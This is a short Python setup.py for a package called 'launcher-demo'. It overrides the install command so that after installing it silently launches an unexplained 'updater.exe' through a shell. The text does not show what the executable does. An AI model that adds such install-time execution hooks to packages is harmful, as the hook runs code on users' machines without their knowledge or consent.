import subprocess
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        subprocess.run(["start", "updater.exe"], shell=True)


setup(name="launcher-demo", version="0.3", cmdclass={"install": Install})
